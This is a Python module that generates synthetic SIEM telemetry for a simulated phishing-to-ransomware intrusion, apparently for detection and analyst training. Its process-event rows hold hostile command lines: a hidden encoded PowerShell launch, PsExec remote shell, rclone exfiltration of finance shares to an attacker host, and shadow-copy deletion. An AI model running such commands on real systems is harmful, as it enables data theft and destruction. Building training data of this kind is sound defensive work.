"""The raw rows that the attack leaves, in the tables where an analyst would look for them."""

from __future__ import annotations

import json
from datetime import datetime, timedelta
from typing import Protocol

from sentinel_rag.workspace.sample.company import (
    ADMINISTRATOR,
    ATTACKER_ADDRESSES,
    CLOUD_ADDRESS,
    DOMAIN,
    DOMAIN_CONTROLLER,
    DUMP_COMMAND,
    ENCRYPTER_SHA256,
    EXFILTRATION_ADDRESS,
    EXFILTRATION_DOMAIN,
    FILE_SERVER,
    MAIL_SUBJECT,
    NETBIOS,
    PHISHING_URL,
    SENDER,
    TENANT_ID,
    VICTIM,
    WORKSTATION,
    device_id,
    host_address,
    host_name,
)
from sentinel_rag.workspace.sample.records import Row, stable_guid


class At(Protocol):
    """The moment so many hours and seconds into the attack."""

    def __call__(self, hours: float, seconds: float = 0.0) -> datetime: ...


def attack_telemetry(start: datetime, seed: int) -> dict[str, list[Row]]:
    """Table -> rows of an attack that begins at `start`."""

    def at(hours: float, seconds: float = 0.0) -> datetime:
        return start + timedelta(hours=hours, seconds=seconds)

    return {
        "EmailEvents": _email_events(at, seed),
        "UrlClickEvents": _url_click_events(at, seed),
        "SigninLogs": _signin_logs(at, seed),
        "OfficeActivity": _office_activity(at),
        "AuditLogs": _audit_logs(at),
        "DeviceProcessEvents": _device_process_events(at),
        "DeviceLogonEvents": _device_logon_events(at),
        "SecurityEvent": _security_event(at),
        "DeviceNetworkEvents": _device_network_events(at),
        "CommonSecurityLog": _common_security_log(at),
        "DnsEvents": _dns_events(at),
        "DeviceFileEvents": _device_file_events(at),
        "ThreatIntelligenceIndicator": _threat_intelligence_indicator(at, seed),
    }


def _email_events(at: At, seed: int) -> list[Row]:
    return [
        {
            "TimeGenerated": at(0.0),
            "NetworkMessageId": stable_guid(seed, "phishing mail"),
            "SenderFromAddress": SENDER,
            "SenderFromDomain": SENDER.partition("@")[2],
            "SenderIPv4": CLOUD_ADDRESS,
            "RecipientEmailAddress": VICTIM.upn,
            "Subject": MAIL_SUBJECT,
            "EmailDirection": "Inbound",
            "DeliveryAction": "Delivered",
            "UrlCount": 1,
            "Type": "EmailEvents",
        }
    ]


def _url_click_events(at: At, seed: int) -> list[Row]:
    return [
        {
            "TimeGenerated": at(0.3),
            "AccountUpn": VICTIM.upn,
            "ActionType": "ClickAllowed",
            "Url": PHISHING_URL,
            "IPAddress": "192.0.2.10",
            "NetworkMessageId": stable_guid(seed, "phishing mail"),
            "Workload": "Email",
            "Type": "UrlClickEvents",
        }
    ]


def _signin_logs(at: At, seed: int) -> list[Row]:
    refused = [
        _sign_in(
            at(0.6, 45 * prompt), "500121", "Authentication failed during strong authentication request.", seed, prompt
        )
        for prompt in range(14)
    ]
    return [*refused, _sign_in(at(0.6, 700), "0", "", seed, 14)]


def _office_activity(at: At) -> list[Row]:
    return [
        {
            "TimeGenerated": at(1.4),
            "Operation": "New-InboxRule",
            "OfficeWorkload": "Exchange",
            "RecordType": "ExchangeAdmin",
            "ResultStatus": "True",
            "UserId": VICTIM.upn,
            "ClientIP": f"{CLOUD_ADDRESS}:52114",
            "UserAgent": "Client=OWA;Action=ViaProxy",
            "Parameters": json.dumps(
                [
                    {"Name": "Name", "Value": "."},
                    {"Name": "SubjectOrBodyContainsWords", "Value": "invoice;payment;security;O'Brien"},
                    {"Name": "MoveToFolder", "Value": "RSS Subscriptions"},
                    {"Name": "MarkAsRead", "Value": "True"},
                ]
            ),
            "Type": "OfficeActivity",
        }
    ]


def _audit_logs(at: At) -> list[Row]:
    return [
        {
            "TimeGenerated": at(6.0),
            "OperationName": "User registered security info",
            "Category": "UserManagement",
            "Result": "success",
            "ResultReason": "User registered Authenticator App",
            "LoggedByService": "Authentication Methods",
            "Identity": VICTIM.display_name,
            "InitiatedBy": json.dumps({"user": {"userPrincipalName": VICTIM.upn, "ipAddress": CLOUD_ADDRESS}}),
            "TargetResources": json.dumps([{"userPrincipalName": VICTIM.upn, "type": "User"}]),
            "Type": "AuditLogs",
        }
    ]


def _device_process_events(at: At) -> list[Row]:
    return [
        _process(
            at(25.9), WORKSTATION, "powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA", VICTIM.account
        ),
        _process(at(26.1), WORKSTATION, "psexesvc.exe", r"psexesvc.exe \\srv-file-01 -s cmd.exe", VICTIM.account),
        _process(at(28.0), FILE_SERVER, "rundll32.exe", DUMP_COMMAND, VICTIM.account),
        _process(
            at(39.5),
            FILE_SERVER,
            "rclone.exe",
            rf"rclone.exe copy D:\Shares\Finance remote: --sftp-host {EXFILTRATION_DOMAIN}",
            ADMINISTRATOR.account,
        ),
        _process(
            at(46.9), FILE_SERVER, "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", ADMINISTRATOR.account
        ),
        _process(
            at(47.0),
            FILE_SERVER,
            "winupd64.exe",
            r"C:\ProgramData\svc\winupd64.exe --path D:\Shares --ext .wdgrv",
            ADMINISTRATOR.account,
            sha256=ENCRYPTER_SHA256,
        ),
    ]


def _device_logon_events(at: At) -> list[Row]:
    return [
        {
            "TimeGenerated": at(26.15),
            "ActionType": "LogonSuccess",
            "DeviceId": device_id(FILE_SERVER),
            "DeviceName": host_name(FILE_SERVER),
            "AccountDomain": NETBIOS,
            "AccountName": VICTIM.account,
            "LogonType": "Network",
            "RemoteIP": host_address(WORKSTATION),
            "RemoteDeviceName": WORKSTATION,
            "Type": "DeviceLogonEvents",
        }
    ]


def _security_event(at: At) -> list[Row]:
    return [
        _logon(at(26.15), FILE_SERVER, VICTIM.account, host_address(WORKSTATION), WORKSTATION),
        _logon(at(29.2), DOMAIN_CONTROLLER, ADMINISTRATOR.account, host_address(FILE_SERVER), FILE_SERVER),
        {
            "TimeGenerated": at(28.0),
            "EventID": 4688,
            "Activity": "4688 - A new process has been created.",
            "Channel": "Security",
            "Computer": host_name(FILE_SERVER),
            "Account": rf"{NETBIOS}\{VICTIM.account}",
            "NewProcessName": r"C:\Windows\System32\rundll32.exe",
            "CommandLine": DUMP_COMMAND,
            "Type": "SecurityEvent",
        },
    ]


def _device_network_events(at: At) -> list[Row]:
    return [
        {
            "TimeGenerated": at(39.6, 40 * number),
            "ActionType": "ConnectionSuccess",
            "DeviceId": device_id(FILE_SERVER),
            "DeviceName": host_name(FILE_SERVER),
            "RemoteIP": EXFILTRATION_ADDRESS,
            "RemotePort": 443,
            "RemoteUrl": EXFILTRATION_DOMAIN,
            "LocalIP": host_address(FILE_SERVER),
            "Protocol": "Tcp",
            "InitiatingProcessFileName": "rclone.exe",
            "InitiatingProcessAccountName": ADMINISTRATOR.account,
            "Type": "DeviceNetworkEvents",
        }
        for number in range(24)
    ]


def _common_security_log(at: At) -> list[Row]:
    return [
        {
            "TimeGenerated": at(39.6, 120 * number),
            "DeviceVendor": "Palo Alto Networks",
            "DeviceProduct": "PAN-OS",
            "DeviceAction": "allow",
            "SourceIP": host_address(FILE_SERVER),
            "DestinationIP": EXFILTRATION_ADDRESS,
            "DestinationPort": 443,
            "SentBytes": 575_000_000,
            "ReceivedBytes": 91_000,
            "Type": "CommonSecurityLog",
        }
        for number in range(8)
    ]


def _dns_events(at: At) -> list[Row]:
    return [
        {
            "TimeGenerated": at(39.55),
            "Computer": host_name(DOMAIN_CONTROLLER),
            "ClientIP": host_address(FILE_SERVER),
            "Name": EXFILTRATION_DOMAIN,
            "QueryType": "A",
            "IPAddresses": EXFILTRATION_ADDRESS,
            "SubType": "LookupQuery",
            "Result": "Success",
            "ResultCode": 0,
            "Type": "DnsEvents",
        }
    ]


def _device_file_events(at: At) -> list[Row]:
    return [
        {
            "TimeGenerated": at(47.0, 2 * number),
            "ActionType": "FileRenamed",
            "DeviceId": device_id(FILE_SERVER),
            "DeviceName": host_name(FILE_SERVER),
            "FileName": f"Budget 20{number:02d} – März.xlsx.wdgrv",
            "FolderPath": rf"D:\Shares\Finance\St. John's office\Budget 20{number:02d} – März.xlsx.wdgrv",
            "InitiatingProcessFileName": "winupd64.exe",
            "InitiatingProcessSHA256": ENCRYPTER_SHA256,
            "Type": "DeviceFileEvents",
        }
        for number in range(40)
    ]


def _threat_intelligence_indicator(at: At, seed: int) -> list[Row]:
    return [
        {
            "TimeGenerated": at(4.0),
            "Active": True,
            "Action": "alert",
            "ConfidenceScore": 85,
            "ThreatType": "C2",
            "NetworkIP": address,
            "IndicatorId": stable_guid(seed, "indicator", address),
            "ExpirationDateTime": at(24 * 60),
            "Description": "Infrastructure of a ransomware affiliate",
            "Type": "ThreatIntelligenceIndicator",
        }
        for address in ATTACKER_ADDRESSES
    ]


def _sign_in(at: datetime, result: str, description: str, seed: int, number: int) -> Row:
    return {
        "TimeGenerated": at,
        "TenantId": TENANT_ID,
        "Id": stable_guid(seed, "attack sign-in", number),
        "CorrelationId": stable_guid(seed, "attack session"),
        "UserPrincipalName": VICTIM.upn,
        "UserDisplayName": VICTIM.display_name,
        "UserId": VICTIM.object_id,
        "Identity": VICTIM.display_name,
        "AppDisplayName": "Office 365 Exchange Online",
        "IPAddress": CLOUD_ADDRESS,
        "Location": "RO",
        "LocationDetails": json.dumps({"city": "Bucharest", "countryOrRegion": "RO"}),
        "ResultType": result,
        "ResultDescription": description,
        "ConditionalAccessStatus": "success" if result == "0" else "failure",
        "AuthenticationRequirement": "multiFactorAuthentication",
        "RiskLevelDuringSignIn": "high",
        "RiskState": "atRisk",
        "ClientAppUsed": "Browser",
        "UserAgent": "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "DeviceDetail": json.dumps({"operatingSystem": "Linux", "browser": "Firefox 115.0"}),
        "OperationName": "Sign-in activity",
        "Category": "SignInLogs",
        "Type": "SigninLogs",
    }


def _process(at: datetime, host: str, file_name: str, command_line: str, account: str, sha256: str = "") -> Row:
    return {
        "TimeGenerated": at,
        "ActionType": "ProcessCreated",
        "DeviceId": device_id(host),
        "DeviceName": host_name(host),
        "AccountDomain": NETBIOS,
        "AccountName": account,
        "AccountUpn": f"{account}@{DOMAIN}",
        "FileName": file_name,
        "FolderPath": rf"C:\Windows\System32\{file_name}",
        "SHA256": sha256,
        "ProcessCommandLine": command_line,
        "InitiatingProcessFileName": "cmd.exe",
        "InitiatingProcessCommandLine": "cmd.exe",
        "Type": "DeviceProcessEvents",
    }


def _logon(at: datetime, host: str, account: str, address: str, workstation: str) -> Row:
    return {
        "TimeGenerated": at,
        "EventID": 4624,
        "Activity": "4624 - An account was successfully logged on.",
        "Channel": "Security",
        "Computer": host_name(host),
        "Account": rf"{NETBIOS}\{account}",
        "TargetUserName": account,
        "TargetDomainName": NETBIOS,
        "LogonType": 3,
        "LogonTypeName": "3 - Network",
        "IpAddress": address,
        "WorkstationName": workstation,
        "AuthenticationPackageName": "NTLM",
        "Type": "SecurityEvent",
    }
